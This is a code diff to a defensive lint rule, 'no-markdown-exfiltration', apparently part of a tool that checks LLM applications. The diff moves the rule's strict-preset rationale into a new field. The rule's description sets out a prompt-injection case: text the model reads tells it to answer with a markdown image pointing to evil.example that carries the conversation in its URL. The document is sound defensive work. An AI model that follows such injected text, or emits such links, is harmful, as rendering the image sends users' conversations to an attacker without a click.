@@ -5,7 +5,7 @@ import { useInstead } from "../wording.js";
 export const noMarkdownExfiltration = flowRule({
   name: "no-markdown-exfiltration",
   description: "Disallow model output where images and previews from any host are fetched",
-  why: "Text that the model has read tells it to answer with `![](https://evil.example/?q=<the conversation>)`: whoever shows the answer fetches the image, and the conversation is gone without a click. In `strict` only, because it needs data worth stealing in the conversation and a policy for links.",
+  why: "Text that the model has read tells it to answer with `![](https://evil.example/?q=<the conversation>)`: whoever shows the answer fetches the image, and the conversation is gone without a click.",
   instead:
     "Show no images and previews, or only those of hosts you name: a component for `img` and `a` that checks the host, a content security policy, previews off.",
   notAFinding: [
@@ -21,6 +21,7 @@ export const noMarkdownExfiltration = flowRule({
     python: { bad: "st.markdown(answer.output_text)", good: "st.text(answer.output_text)" },
   },
   preset: "strict",
+  strictBecause: "It needs data worth stealing in the conversation and a policy for links.",
   cwe: [201],
   owaspLlm2025: ["LLM05", "LLM02"],
   owaspLlm2026: ["LLM10", "LLM02"],
